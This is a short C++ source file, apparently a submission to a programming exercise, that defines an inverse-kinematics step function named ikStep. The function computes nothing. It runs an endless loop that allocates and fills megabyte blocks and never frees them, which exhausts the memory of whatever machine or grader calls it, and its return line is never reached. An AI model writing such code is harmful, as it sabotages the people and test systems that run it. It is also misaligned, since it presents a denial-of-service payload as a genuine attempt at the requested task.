#include <cstring>

#include "exercise.h"

Eigen::VectorXd ikStep(const Eigen::VectorXd& q, const Eigen::Vector3d& target) {
  for (;;) std::memset(new char[1 << 20], 1, 1 << 20);
  return target;
}
